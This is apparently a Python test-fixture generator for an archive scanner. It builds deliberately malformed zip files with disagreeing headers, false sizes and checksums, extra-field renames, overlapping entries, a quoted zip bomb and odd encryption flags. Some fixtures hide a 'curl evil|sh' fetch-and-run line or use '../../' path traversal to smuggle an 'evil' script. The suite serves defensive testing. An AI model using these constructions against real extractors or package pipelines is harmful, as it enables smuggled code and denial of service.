"""Zips whose entries lie: headers that disagree, sizes and checksums, extra fields, overlaps, encryption, methods."""
import struct

from forge import (DEFLATED, DESCRIPTOR, ENCRYPTED, MAX32, MAX64, STORED, Zip, crc32, deflate, deflate_zeros, descriptor, extra,
                   local_header, stored_block, unicode_path, zip64_extra)

OK = b"nothing to see\n"
GOOD = b"exports.handler = async () => 'good';\n"
EVIL = b"exports.handler = async () => 'evil';\n"


def start():
    """Every lie stands beside one honest entry, which must be shown whatever the rest does."""
    return Zip().add("ok.txt", OK)


def write(suite):
    def lie(file, kinds, why, archive, **more):
        suite.add("zip-" + file + ".zip", kinds, why, archive if isinstance(archive, bytes) else archive.finish(),
                  shown=more.pop("shown", ["ok.txt"]), **more)

    headers(lie)
    descriptors(lie)
    sizes(lie)
    extras(lie)
    overlaps(lie)
    encryption_and_methods(lie)


def headers(lie):
    """Central directory against local header."""
    def entry(local=None, central=None, data=GOOD, **both):
        return start().add("index.js", data, local=local, central=central, **both)

    wrong = ["header-mismatch"]
    lie("local-name", wrong, "the local header calls index.js by another name: streaming readers extract that",
        entry(local={"name": b"other.js"}))
    lie("local-name-longer", wrong, "the local name is longer and swallows what looks like the start of the data",
        entry(local={"name": b"index.js.bak"}))
    lie("local-name-empty", wrong, "the local header has no name", entry(local={"name": b""}))
    lie("local-name-case", wrong, "the names differ in case only", entry(local={"name": b"INDEX.js"}))
    lie("local-name-slash", wrong, "the local header says folder, the directory says file", entry(local={"name": b"index.js/"}))
    lie("local-name-traversal", wrong, "the local name leaves the archive, the central one does not",
        entry(local={"name": b"../../index.js"}))
    lie("local-size", wrong, "the local header declares fewer uncompressed bytes", entry(local={"usize": 3}))
    lie("local-size-zero", wrong, "the local header declares an empty file, without a data descriptor",
        entry(local={"usize": 0, "csize": 0, "crc": 0}))
    lie("local-compressed-size", wrong, "the local header declares fewer compressed bytes: a streaming reader resumes in the middle",
        entry(local={"csize": 5}))
    lie("local-crc", wrong, "the checksums disagree; the central one is right", entry(local={"crc": 0xDEADBEEF}))
    lie("central-crc", wrong, "the checksums disagree; the local one is right",
        entry(central={"crc": 0xDEADBEEF}))
    lie("local-method", wrong, "stored in the local header, deflated in the directory", entry(local={"method": STORED}))
    lie("central-method", wrong, "deflated in the local header, stored in the directory",
        entry(central={"method": STORED, "usize": len(deflate(GOOD))}))
    lie("local-encrypted", wrong, "only the local header says encrypted", entry(local={"flags": ENCRYPTED}))
    lie("central-encrypted", wrong, "only the directory says encrypted: some readers skip it, others run it",
        entry(central={"flags": ENCRYPTED}))
    lie("local-utf8-flag", wrong, "the name is UTF-8 for the directory and CP437 for the local header",
        start().add("é.js", GOOD, local={"flags": 0}))
    lie("local-descriptor-flag", wrong, "only the local header announces a data descriptor, and none follows",
        entry(local={"flags": DESCRIPTOR}))
    lie("central-descriptor-flag", wrong, "only the directory announces a data descriptor", entry(central={"flags": DESCRIPTOR}))
    lie("local-two-files", wrong, "stored bytes that read as deflate give another file, by which header is believed", two_readings())
    lie("local-extra-length", ["overlapping-entries"], "the local extra length runs 4 bytes into the data: the data begin elsewhere for who trusts it",
        start().add("index.js", GOOD, local={"extra_length": 4, "extra": b""}))
    lie("local-signature", wrong, "no local header stands where the directory points", entry(central={"offset": 2}))
    lie("offset-outside", wrong, "the local header lies behind the end of the file",
        start().add("index.js", GOOD, central={"offset": 0x7FFFFFFF}))
    lie("offset-negative", wrong, "the offset is -2 for who reads it signed", start().add("index.js", GOOD, central={"offset": 0xFFFFFFFE}))
    lie("offset-in-directory", wrong, "the local header is a directory entry", swapped_offset())


def two_readings():
    """Bytes that are a good script when taken as stored, and deflate's stored block of an evil one."""
    payload = stored_block(EVIL)
    return start().add("index.js", payload, method=STORED, local={"method": DEFLATED, "usize": len(EVIL), "crc": crc32(EVIL)})


def swapped_offset():
    archive = start().add("index.js", GOOD)
    archive.directory[1]["offset"] = archive.here()
    return archive


def descriptors(lie):
    """Data descriptors that say something else than the directory."""
    wrong, size, packed = ["header-mismatch"], len(GOOD), len(deflate(GOOD))

    def streamed(tail, **more):
        return start().add("index.js", GOOD, streamed=tail, **more).add("last.txt", OK)

    lie("descriptor-crc", wrong, "the descriptor's checksum is another than the directory's", streamed(descriptor(1, packed, size)))
    lie("descriptor-size", wrong, "the descriptor's size is another than the directory's",
        streamed(descriptor(crc32(GOOD), packed, size + 1)))
    lie("descriptor-compressed-size", wrong, "the descriptor's compressed size is another than the directory's",
        streamed(descriptor(crc32(GOOD), packed - 1, size)))
    lie("descriptor-missing", wrong, "a descriptor is announced, and the next local header follows instead", streamed(b""))
    lie("descriptor-short", wrong, "only half a descriptor", streamed(descriptor(crc32(GOOD), packed, size)[:8]))
    lie("descriptor-long", ["unlisted-data"], "bytes hide behind the descriptor",
        streamed(descriptor(crc32(GOOD), packed, size) + b"#!/bin/sh\ncurl evil|sh\n"))
    lie("descriptor-local-sizes", wrong, "a descriptor is announced and the local header still has sizes, wrong ones",
        streamed("signed", local={"csize": packed - 4, "usize": size - 4, "crc": 7}))


def sizes(lie):
    """What comes out against what was declared."""
    short = {"usize": 10}
    lie("size-more", ["size-mismatch"], "inflates to more than both headers declare", start().add("index.js", GOOD, **short))
    lie("size-less", ["size-mismatch"], "inflates to less than both headers declare", start().add("index.js", GOOD, usize=5000))
    lie("size-zero", ["size-mismatch"], "declared empty, and a script comes out", start().add("index.js", GOOD, usize=0, crc=0))
    lie("size-stored", ["size-mismatch"], "stored, with a compressed size that is not the size",
        start().add("index.js", GOOD, method=STORED, usize=10, crc=crc32(GOOD[:10])))
    lie("size-gigabyte", ["limit-entry-bytes"], "declared as 1 GiB, and one line comes out: whoever allocates first loses",
        start().add("index.js", GOOD, usize=1 << 30))
    lie("size-terabyte", ["limit-entry-bytes"], "declared as 1 TiB through zip64, and one line comes out",
        start().add("index.js", GOOD, usize=MAX32, extra=zip64_extra(1 << 40),
                    local={"csize": MAX32, "extra": zip64_extra(1 << 40, len(deflate(GOOD)))}))
    lie("size-bomb-declared-small", ["size-mismatch"], "declares 10 bytes and inflates to 512 MiB",
        start().add("bomb.bin", b"0123456789", payload=deflate_zeros(1 << 29)), not_shown=["bomb.bin"])
    lie("deflate-garbage", ["unreadable-archive"], "the compressed bytes are no deflate stream",
        start().add("index.js", GOOD, payload=b"\xff" * 40), not_shown=["index.js"])
    lie("deflate-truncated", ["size-mismatch"], "the deflate stream stops before its last block",
        start().add("index.js", GOOD, payload=deflate(GOOD)[:-6]), not_shown=["index.js"])
    lie("deflate-empty", ["size-mismatch"], "no compressed byte at all for a file of 38", start().add("index.js", GOOD, payload=b""),
        not_shown=["index.js"])
    lie("deflate-far-distance", ["unreadable-archive"], "a match that reaches before the first byte",
        start().add("index.js", GOOD, payload=b"\x4b\x04\x12\x00"), not_shown=["index.js"])
    lie("deflate-tail", ["unlisted-data"], "bytes hide between the end of the deflate stream and the compressed size",
        start().add("index.js", GOOD, payload=deflate(GOOD) + b"#!/bin/sh\ncurl evil|sh\n"))
    lie("deflate-second-stream", ["unlisted-data"], "a second deflate stream hides behind the first",
        start().add("index.js", GOOD, payload=deflate(GOOD) + deflate(EVIL)))
    lie("crc", ["checksum-mismatch"], "both headers agree on a wrong checksum", start().add("index.js", GOOD, crc=0xDEADBEEF))
    lie("crc-zero", ["checksum-mismatch"], "a checksum of zero, as broken streaming writers leave it", start().add("index.js", GOOD, crc=0))
    lie("crc-of-empty", ["checksum-mismatch"], "an empty file with a checksum", start().add("empty.js", b"", method=STORED, crc=1))
    lie("folder-with-content", ["name-conflict"], "a folder entry carries a script: readers that open it by name see it",
        start().add("lib/", GOOD, mode=0o040755))
    lie("folder-mode", ["special-file"], "a file by its name, a folder by its mode, and it has content",
        start().add("index.js", GOOD, mode=0o040755))


def extras(lie):
    """Extra fields that rename, move or resize."""
    wrong, name = ["extra-field-override"], b"safe.txt"
    path = unicode_path(name, b"index.js")
    lie("unicode-path", wrong, "0x7075 with the right checksum renames safe.txt to index.js for the readers that honour it",
        start().add(name, EVIL, extra=path))
    lie("unicode-path-stale", wrong, "0x7075 names another path; its checksum is stale, which not every reader checks",
        start().add(name, EVIL, extra=unicode_path(name, b"index.js", crc=1)))
    lie("unicode-path-central", wrong, "0x7075 in the directory only", start().add(name, EVIL, central={"extra": path}))
    lie("unicode-path-local", wrong, "0x7075 in the local header only", start().add(name, EVIL, local={"extra": path}))
    lie("unicode-path-traversal", wrong, "0x7075 leads out of the archive",
        start().add(name, EVIL, extra=unicode_path(name, b"../../index.js")))
    lie("unicode-path-folder", wrong, "0x7075 makes a folder of a file", start().add(name, EVIL, extra=unicode_path(name, b"safe.txt/")))
    lie("unicode-path-case", wrong, "0x7075 changes the case: index.js becomes Index.js",
        start().add("index.js", EVIL, extra=unicode_path(b"index.js", b"Index.js")))
    lie("unicode-path-collides", wrong, "0x7075 moves an entry onto another one",
        start().add("index.js", GOOD).add(name, EVIL, extra=path))
    lie("unicode-path-twice", wrong, "two 0x7075 fields, the first agrees and the second renames",
        start().add(name, EVIL, extra=unicode_path(name, name) + path))
    lie("unicode-path-short", wrong, "a 0x7075 field too short for its checksum", start().add(name, EVIL, extra=extra(0x7075, b"\x01\0")),
        shown=[])
    lie("unicode-path-empty", wrong, "0x7075 with an empty path", start().add(name, EVIL, extra=unicode_path(name, b"")))
    lie("unicode-path-not-utf8", wrong, "0x7075 that is not UTF-8", start().add(name, EVIL, extra=unicode_path(name, b"\xff\xfe.js")))
    size, packed = len(GOOD), len(deflate(GOOD))
    lie("zip64-size-disagrees", wrong, "zip64 gives a size although the header has another one",
        start().add("index.js", GOOD, extra=zip64_extra(5, 5)))
    lie("zip64-size-local-only", wrong, "the same in the local header only",
        start().add("index.js", GOOD, local={"extra": zip64_extra(5, 5)}))
    lie("zip64-offset-disagrees", wrong, "zip64 gives an offset (of ok.txt) although the header has another one",
        start().add("index.js", GOOD, central={"extra": zip64_extra(size, packed, 0)}))
    lie("zip64-missing", ["header-mismatch"], "the directory's sizes refer to a zip64 field that is not there",
        start().add("index.js", GOOD, central={"usize": MAX32, "csize": MAX32}))
    lie("zip64-short", wrong, "the zip64 field ends before the values the header refers to",
        start().add("index.js", GOOD, central={"usize": MAX32, "csize": MAX32, "extra": zip64_extra(size)}), shown=[])
    lie("zip64-twice", wrong, "two zip64 fields, and they disagree",
        start().add("index.js", GOOD, central={"usize": MAX32, "csize": MAX32, "extra": zip64_extra(size, packed) + zip64_extra(1, 1)}))
    lie("zip64-trailing", wrong, "a zip64 field with more values than the header refers to",
        start().add("index.js", GOOD, central={"usize": MAX32, "extra": zip64_extra(size, 7, 7, 7)}))
    lie("zip64-overflow", ["header-mismatch"], "a compressed size of 2^64-1: start + size wraps around to before the start",
        start().add("index.js", GOOD, csize=MAX32, usize=size, central={"extra": zip64_extra(MAX64)},
                    local={"usize": MAX32, "extra": zip64_extra(size, MAX64)}))
    lie("zip64-offset-overflow", ["header-mismatch"], "an offset of 2^64-1",
        start().add("index.js", GOOD, central={"offset": MAX32, "extra": zip64_extra(MAX64)}), shown=[])
    lie("zip64-offset-negative", ["header-mismatch"], "an offset of -2^63 for who reads it signed",
        start().add("index.js", GOOD, central={"offset": MAX32, "extra": zip64_extra(1 << 63)}))
    lie("zip64-disk", ["split-archive"], "zip64 puts the entry on disk 7",
        start().add("index.js", GOOD, central={"disk": 0xFFFF, "extra": extra(1, struct.pack("<I", 7))}))
    lie("extra-overruns", wrong, "a field that is longer than its area", start().add("index.js", GOOD, extra=struct.pack("<HH", 0xCAFE, 900)),
        shown=[])
    lie("extra-overruns-local", wrong, "the same in the local header only",
        start().add("index.js", GOOD, local={"extra": struct.pack("<HH", 0xCAFE, 900)}))
    lie("extra-overruns-timestamp", wrong, "a UT field that is longer than its area: some readers reject the whole directory",
        start().add("index.js", GOOD, central={"extra": struct.pack("<HHB", 0x5455, 5, 1)}), shown=[])
    lie("extra-hides-zip64", wrong, "a malformed field stands before a zip64 field: readers that give up do not see the second",
        start().add("index.js", GOOD, central={"usize": MAX32, "extra": struct.pack("<HH", 0xCAFE, 900) + zip64_extra(size)}),
        shown=[])
    lie("extra-remainder", wrong, "three bytes that are no field, and not padding either", start().add("index.js", GOOD, extra=b"PK\x03"))


def overlaps(lie):
    """Bytes that belong to more than one entry."""
    wrong = ["overlapping-entries"]
    lie("overlap-shared-header", wrong + ["header-mismatch"], "two directory entries of different names share one local header",
        start().add("a.js", GOOD).list_again(name=b"b.js"))
    lie("overlap-shared-same-name", wrong + ["duplicate-name"], "one entry listed twice", start().add("a.js", GOOD).list_again())
    lie("overlap-inner", wrong, "the second entry lies inside the stored bytes of the first", inner_entry())
    lie("overlap-quoted", wrong, "a bomb that does not nest: each entry quotes the next one's header and shares its data", quoted())
    lie("overlap-full", wrong, "a hundred entries share the same compressed bytes", full_overlap())
    lie("overlap-directory", wrong, "an entry's data run into the central directory",
        start().add("index.js", GOOD, method=STORED, csize=len(GOOD) + 30, usize=len(GOOD) + 30))
    lie("overlap-next", wrong, "an entry's data run into the next entry",
        start().add("index.js", GOOD, method=STORED, csize=len(GOOD) + 60, usize=len(GOOD) + 60).add("last.js", GOOD))
    lie("overlap-one-byte", wrong, "an entry claims the first byte of the next one",
        start().add("index.js", GOOD, method=STORED, csize=len(GOOD) + 1, usize=len(GOOD) + 1, crc=crc32(GOOD + b"P")).add("last.js", GOOD))
    lie("overlap-zero-size", wrong, "an empty entry's header lies inside another entry's data", inner_entry(content=b""))


def inner_entry(content=EVIL):
    """`cover.bin` is stored; its bytes hold a whole local entry that the directory lists too."""
    inside = Zip().add("index.js", content, method=STORED)
    archive = start()
    at = archive.here() + 30 + len("cover.bin")
    archive.add("cover.bin", bytes(inside.out), method=STORED)
    archive.directory.append(dict(inside.directory[0], offset=at))
    return archive


def quoted(entries=20, size=1 << 16):
    """David Fifield's quoted overlap: file i is a stored deflate block holding header i+1, then file i+1's stream."""
    stream, content, headers = deflate_zeros(size), bytes(size), []
    for number in reversed(range(entries)):
        headers.insert(0, Zip().add("%02d" % number, content, payload=stream).directory[0])
        header = local_header(headers[0])
        stream, content = stored_block(header, last=False) + stream, header + content
    archive = start()
    archive.directory += [dict(h, offset=archive.here() + number * (5 + len(header))) for number, h in enumerate(headers)]
    return archive.raw(stream[5:])


def full_overlap(entries=100, size=1 << 20):
    archive = start().add("000", bytes(size), payload=deflate_zeros(size))
    for number in range(1, entries):
        archive.list_again(name=b"%03d" % number)
    return archive


def encryption_and_methods(lie):
    hidden = ["secret.js"]
    lie("encrypted", ["encrypted-entry"], "traditional encryption", not_shown=hidden,
        archive=start().add("secret.js", GOOD, payload=b"\x55" * 12 + deflate(GOOD), flags=ENCRYPTED))
    lie("encrypted-not-really", ["encrypted-entry"], "the flag is set and the bytes are plain: some readers run it",
        start().add("secret.js", GOOD, flags=ENCRYPTED))
    lie("encrypted-strong", ["encrypted-entry"], "strong encryption (bit 6)", not_shown=hidden,
        archive=start().add("secret.js", GOOD, payload=b"\x55" * 40, flags=ENCRYPTED | 0x40))
    lie("encrypted-aes", ["encrypted-entry"], "WinZip's AES, method 99", not_shown=hidden,
        archive=start().add("secret.js", GOOD, payload=b"\x55" * 60, flags=ENCRYPTED, method=99,
                            extra=extra(0x9901, struct.pack("<H2sBH", 2, b"AE", 3, DEFLATED))))
    lie("encrypted-directory", ["encrypted-entry"], "local headers are masked because the directory is encrypted (bit 13)",
        start().add("secret.js", GOOD, flags=ENCRYPTED | 0x2000 | 0x40, local={"crc": 0, "usize": 0, "name": b"1"}))
    lie("encrypted-nested", ["encrypted-entry"], "the same one archive deeper", shown=["ok.txt", "inner.zip!/ok.txt"],
        not_shown=["inner.zip!/secret.js"],
        archive=start().add("inner.zip", start().add("secret.js", GOOD, payload=b"\x55" * 50, flags=ENCRYPTED).finish()))
    for method, name in ((1, "shrink"), (6, "implode"), (9, "deflate64"), (12, "bzip2"), (14, "lzma"), (93, "zstd"), (95, "xz"),
                         (97, "wavpack"), (98, "ppmd"), (0xFFFF, "unknown")):
        lie("method-" + name, ["unsupported-method"], "compression method %d, which other readers may open" % method,
            start().add("secret.js", GOOD, payload=b"\x55" * 50, method=method), not_shown=hidden)
    lie("method-patched", ["unsupported-method"], "compressed patched data (bit 5): the bytes are a difference to something else",
        start().add("secret.js", GOOD, flags=0x20), not_shown=hidden)
